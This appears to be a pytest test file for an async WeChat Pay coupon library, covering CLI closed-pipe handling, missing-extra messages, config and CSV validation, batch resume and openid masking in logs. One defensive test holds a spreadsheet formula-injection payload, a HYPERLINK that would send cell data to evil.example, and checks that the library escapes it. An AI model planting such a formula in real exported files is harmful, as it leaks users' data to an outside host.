"""What a new user tripped on (issue 17 part 9), each against the real thing.

The command line runs as a real subprocess where the process matters (closed pipes, missing
packages); batches run against the emulator on 127.0.0.1.
"""

from __future__ import annotations

import asyncio
import csv
import logging
import os
import subprocess
import sys
from collections.abc import AsyncIterator
from pathlib import Path

import pytest

from wxpay_async import Client
from wxpay_async._config import env_settings
from wxpay_async._logmask import loggable_target
from wxpay_async._redis import require_redis
from wxpay_async.batch import JournalError, send_batch
from wxpay_async.batch._results import neutralise
from wxpay_async.emulator import RunningEmulator, create_running_stock, run_emulator, write_keys_dir
from wxpay_async.errors import ConfigurationError, ValidationError

APPID = "wx233544546545989"
ROOT = Path(__file__).resolve().parent.parent
#: openids in the shape WeChat Pay gives them (28 characters of [0-9A-Za-z_-]).
OPENIDS = [f"oUpF8uMuAJO_M2pxb1Q9zNjW{i:04d}" for i in range(6)]


@pytest.fixture
async def emu() -> AsyncIterator[RunningEmulator]:
    async with run_emulator(send_rate=0) as running:
        yield running


@pytest.fixture
async def stock(emu: RunningEmulator) -> str:
    async with Client(**emu.client_kwargs()) as wx:
        return await create_running_stock(wx, max_coupons=100)


def issued(emu: RunningEmulator, stock_id: str) -> list[str]:
    return [c["openid"] for c in emu.ledger()["coupons"] if c["stock_id"] == stock_id]


# -- the command line and closed pipes -------------------------------------------------------------
async def run_into_closed_pipe(*args: str, stdin: bytes | None = None) -> tuple[int, str]:
    """Run the CLI with a stdout whose reader has already gone (``... | head -1`` after its line)."""
    read_end, write_end = os.pipe()
    os.close(read_end)  # nobody will read: every write to stdout fails with EPIPE
    try:
        proc = await asyncio.create_subprocess_exec(
            sys.executable,
            "-m",
            "wxpay_async.cli",
            *args,
            stdin=asyncio.subprocess.PIPE if stdin is not None else asyncio.subprocess.DEVNULL,
            stdout=write_end,
            stderr=asyncio.subprocess.PIPE,
        )
    finally:
        os.close(write_end)
    _, err = await asyncio.wait_for(proc.communicate(stdin), timeout=60)
    assert proc.returncode is not None
    return proc.returncode, err.decode()


async def test_certificates_download_into_a_closed_pipe_is_quiet(emu: RunningEmulator, tmp_path: Path) -> None:
    keys_dir = tmp_path / "keys"
    write_keys_dir(keys_dir, emu.base_url, keys=emu.keys)
    code, err = await run_into_closed_pipe("certificates", "download", "--keys-dir", str(keys_dir))
    assert "Traceback" not in err and "BrokenPipeError" not in err, err
    assert code == 141, err  # as a process ended by SIGPIPE: `set -o pipefail` still sees it


async def test_notify_decrypt_into_a_closed_pipe_is_quiet(emu: RunningEmulator, tmp_path: Path) -> None:
    from .test_notifications import notification

    keys_dir = tmp_path / "keys"
    keys = write_keys_dir(keys_dir, emu.base_url, keys=emu.keys)
    apiv3_key = keys.apiv3_key
    pair = keys.public_key
    _, body = notification(pair, keys.public_key_id, apiv3_key, {"coupon_id": "1"}, event="COUPON.USE")
    code, err = await run_into_closed_pipe(
        "notify", "decrypt", "--no-verify", "--keys-dir", str(keys_dir), "-", stdin=body
    )
    assert "Traceback" not in err and "BrokenPipeError" not in err, err
    assert code == 141, err


@pytest.mark.parametrize(
    ("args", "status"),
    [
        (["--help"], 0),  # argparse itself ignores an OSError while printing help
        (["send-batch", "--help"], 0),
        (["selfcheck"], 141),
    ],
)
async def test_any_command_into_a_closed_pipe_is_quiet(args: list[str], status: int) -> None:
    code, err = await run_into_closed_pipe(*args)
    assert "Traceback" not in err and "BrokenPipeError" not in err and "Exception ignored" not in err, err
    assert code == status, err


# -- the redis extra ----------------------------------------------------------------------------------
def without_redis(tmp_path: Path) -> dict[str, str]:
    """An environment in which ``import redis`` fails as it does without the ``redis`` extra."""
    shim = tmp_path / "no-redis" / "redis"
    shim.mkdir(parents=True)
    (shim / "__init__.py").write_text('raise ModuleNotFoundError("No module named \'redis\'", name="redis")\n')
    return {**os.environ, "PYTHONPATH": str(shim.parent)}


def test_require_redis_names_the_extra(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setitem(sys.modules, "redis", None)
    monkeypatch.setitem(sys.modules, "redis.asyncio", None)
    with pytest.raises(ConfigurationError, match=r'pip install "wxpay-async\[redis\]"'):
        require_redis()


@pytest.mark.parametrize("workers", ["1", "3"])
async def test_send_batch_redis_without_the_extra_says_what_to_install(
    emu: RunningEmulator, stock: str, tmp_path: Path, workers: str
) -> None:
    keys_dir = tmp_path / "keys"
    write_keys_dir(keys_dir, emu.base_url, keys=emu.keys)
    source = tmp_path / "users.csv"
    source.write_text("openid\n" + "\n".join(OPENIDS) + "\n")
    argv = [sys.executable, "-m", "wxpay_async.cli", "send-batch", str(source), "--keys-dir", str(keys_dir)]
    argv += ["--stock-id", stock, "--appid", APPID, "--redis", "redis://127.0.0.1:9/0", "--workers", workers, "-q"]
    proc = await asyncio.create_subprocess_exec(
        *argv, env=without_redis(tmp_path), stdout=asyncio.subprocess.PIPE, stderr=asyncio.subprocess.PIPE
    )
    _, raw = await asyncio.wait_for(proc.communicate(), timeout=60)
    err = raw.decode()
    assert proc.returncode != 0
    assert "Traceback" not in err and "ModuleNotFoundError" not in err, err
    assert err.count('pip install "wxpay-async[redis]"') == 1, err  # once, not once per worker
    assert issued(emu, stock) == []


# -- configuration ----------------------------------------------------------------------------------
def test_from_env_names_every_missing_variable_at_once() -> None:
    with pytest.raises(ConfigurationError) as info:
        env_settings({"WXPAY_MCHID": "1900000001"})
    text = str(info.value)
    for name in ("WXPAY_MERCHANT_SERIAL", "WXPAY_PRIVATE_KEY_PATH", "WXPAY_APIV3_KEY"):
        assert name in text
    assert "WXPAY_MCHID " not in text and "3 variables" in text
    with pytest.raises(ConfigurationError) as info:
        Client.from_env({})
    assert all(name in str(info.value) for name in ("WXPAY_MCHID", "WXPAY_MERCHANT_SERIAL", "WXPAY_APIV3_KEY"))
    with pytest.raises(ConfigurationError, match="WXPAY_PUBLIC_KEY_ID"):
        env_settings({"WXPAY_PUBLIC_KEY_PATH": "pub.pem"})


# -- batch input and output -----------------------------------------------------------------------
async def test_a_csv_without_openid_column_names_the_header_it_found(emu: RunningEmulator, tmp_path: Path) -> None:
    source = tmp_path / "users.csv"
    source.write_text("open_id,stock_id\n" + "".join(f"{o},1\n" for o in OPENIDS))
    async with Client(**emu.client_kwargs()) as wx:
        with pytest.raises(ValidationError) as info:
            await send_batch(wx, source, batch_id="b", journal=tmp_path / "j.db", appid=APPID)
    assert "no openid column" in str(info.value) and "'open_id', 'stock_id'" in str(info.value)
    assert "'open_id' is close" in str(info.value)
    assert not (tmp_path / "j.db").exists()  # refused before a journal was made: nothing to --resume
    semi = tmp_path / "semi.csv"
    semi.write_text("openid;stock_id\n" + "".join(f"{o};1\n" for o in OPENIDS))
    async with Client(**emu.client_kwargs()) as wx:
        with pytest.raises(ValidationError, match="separated by commas"):
            await send_batch(wx, semi, batch_id="b", journal=tmp_path / "j2.db", appid=APPID)


async def test_cli_names_the_header_and_leaves_no_journal(emu: RunningEmulator, stock: str, tmp_path: Path) -> None:
    keys_dir = tmp_path / "keys"
    write_keys_dir(keys_dir, emu.base_url, keys=emu.keys)
    source = tmp_path / "users.csv"
    source.write_text("OpenID\n" + "\n".join(OPENIDS) + "\n")
    journal = tmp_path / "j.db"
    argv = ["send-batch", str(source), "--keys-dir", str(keys_dir), "--stock-id", stock, "--appid", APPID]
    argv += ["--journal", str(journal), "-q"]
    proc = await asyncio.create_subprocess_exec(
        sys.executable, "-m", "wxpay_async.cli", *argv, stdout=asyncio.subprocess.PIPE, stderr=asyncio.subprocess.PIPE
    )
    _, raw = await asyncio.wait_for(proc.communicate(), timeout=60)
    err = raw.decode()
    assert proc.returncode == 1 and "Traceback" not in err, err
    assert "no openid column; the header found is: 'OpenID'" in err and "named exactly openid" in err, err
    assert not journal.exists() and issued(emu, stock) == []
    source.write_text("openid\n" + "\n".join(OPENIDS) + "\n")  # fixed: runs without --resume
    proc = await asyncio.create_subprocess_exec(
        sys.executable, "-m", "wxpay_async.cli", *argv, stdout=asyncio.subprocess.PIPE, stderr=asyncio.subprocess.PIPE
    )
    _, raw = await asyncio.wait_for(proc.communicate(), timeout=60)
    assert proc.returncode == 0, raw.decode()
    assert sorted(issued(emu, stock)) == sorted(OPENIDS)


async def test_a_row_without_openid_fails_alone(emu: RunningEmulator, stock: str, tmp_path: Path) -> None:
    source = tmp_path / "users.csv"
    source.write_text(f"openid,coupon_minimum\n{OPENIDS[0]},\n,\n{OPENIDS[1]},\n")  # row 2 has no openid
    result = tmp_path / "result.csv"
    async with Client(**emu.client_kwargs()) as wx:
        summary = await send_batch(
            wx,
            source,
            batch_id="rows",
            journal=tmp_path / "j.db",
            result_csv=result,
            stock_id=stock,
            appid=APPID,
        )
    assert summary.sent == 2 and summary.failed == 1 and summary.failures_by_code == {"VALIDATION": 1}
    assert sorted(issued(emu, stock)) == sorted(OPENIDS[:2])
    lines = list(csv.DictReader(result.open(newline="")))
    assert [line["state"] for line in lines] == ["sent", "failed", "sent"]
    assert lines[1]["row"] == "2" and lines[1]["code"] == "VALIDATION" and "openid" in lines[1]["message"]


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_formula_starts_are_neutralised(start: str) -> None:
    assert neutralise(start + 'HYPERLINK("http://x")') == "'" + start + 'HYPERLINK("http://x")'
    assert neutralise("o" + start) == "o" + start


async def test_result_csv_cells_cannot_start_a_formula(emu: RunningEmulator, stock: str, tmp_path: Path) -> None:
    hostile = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    rows = [{"openid": OPENIDS[0], "key": hostile}, {"openid": OPENIDS[1], "key": "@SUM(1+1)"}]
    result = tmp_path / "result.csv"
    async with Client(**emu.client_kwargs()) as wx:
        summary = await send_batch(
            wx, rows, batch_id="f", journal=tmp_path / "j.db", result_csv=result, stock_id=stock, appid=APPID
        )
    assert summary.sent == 2
    keys = [line["key"] for line in csv.DictReader(result.open(newline=""))]
    assert keys == ["'" + hostile, "'@SUM(1+1)"]
    for line in csv.reader(result.open(newline="")):
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in line), line


async def test_send_batch_resumes_only_when_asked(emu: RunningEmulator, stock: str, tmp_path: Path) -> None:
    rows = [{"openid": o} for o in OPENIDS[:3]]
    opts = {"stock_id": stock, "appid": APPID}
    async with Client(**emu.client_kwargs()) as wx:
        first = await send_batch(wx, rows, batch_id="r", journal=tmp_path / "j.db", **opts)  # type: ignore[arg-type]
        assert first.sent == 3
        with pytest.raises(JournalError, match=r"resume=True"):
            await send_batch(wx, rows, batch_id="r", journal=tmp_path / "j.db", **opts)  # type: ignore[arg-type]
        again = await send_batch(wx, rows, batch_id="r", journal=tmp_path / "j.db", resume=True, **opts)  # type: ignore[arg-type]
    assert again.already_done == 3 and again.sent == 0
    assert sorted(issued(emu, stock)) == sorted(OPENIDS[:3])


# -- logs -------------------------------------------------------------------------------------------
def test_loggable_target_masks_every_openid() -> None:
    openid = OPENIDS[0]
    assert (
        loggable_target(f"/v3/marketing/favor/users/{openid}/coupons/9")
        == "/v3/marketing/favor/users/oUpF***/coupons/9"
    )
    assert openid not in loggable_target(f"/v3/marketing/partner/product-coupon/users/{openid}/coupons?appid=wx1")
    assert (
        loggable_target(f"/v3/x?openid={openid}&unionid=abcdefgh&limit=1")
        == "/v3/x?openid=oUpF***&unionid=abcd***&limit=1"
    )
    assert loggable_target("/v3/certificates") == "/v3/certificates"


async def test_debug_logs_do_not_carry_openids(
    emu: RunningEmulator, stock: str, caplog: pytest.LogCaptureFixture
) -> None:
    openid = OPENIDS[0]
    caplog.set_level(logging.DEBUG, logger="wxpay_async")
    async with Client(**emu.client_kwargs()) as wx:
        sent = await wx.favor.send_coupon(openid, stock_id=stock, appid=APPID, stock_creator_mchid=wx.mchid)
        await wx.favor.get_user_coupon(openid, sent.coupon_id, appid=APPID)
    lines = [record.getMessage() for record in caplog.records]
    assert any("/users/oUpF***/coupons" in line for line in lines), lines
    assert not any(openid in line for line in lines), lines


# -- scripts/test.sh ---------------------------------------------------------------------------------
def test_test_script_says_what_it_does_and_shows_skip_reasons(tmp_path: Path) -> None:
    """scripts/test.sh against a stand-in venv whose pip only reports that it ran (our own seam)."""
    venv = tmp_path / "venv"
    (venv / "bin").mkdir(parents=True)
    python = venv / "bin" / "python"
    python.write_text(
        "#!/bin/sh\n"
        'if [ "$1" = "-m" ] && [ "$2" = "pip" ]; then echo PIP-RAN >&2; exit 0; fi\n'
        f'exec "{sys.executable}" "$@"\n'
    )
    python.chmod(0o755)
    sample = tmp_path / "test_sample.py"
    sample.write_text("import pytest\n\n\ndef test_x():\n    pytest.skip('redis-server is not installed here')\n")
    proc = subprocess.run(
        ["bash", str(ROOT / "scripts" / "test.sh"), str(sample), "-p", "no:cacheprovider"],
        env={**os.environ, "WXPAY_VENV": str(venv)},
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
    )
    assert proc.returncode == 0, proc.stdout + proc.stderr
    assert "redis-server is not installed here" in proc.stdout  # -rs: the reason, not just "1 skipped"
    err = proc.stderr
    assert "installing" in err and err.index("installing") < err.index("PIP-RAN"), err
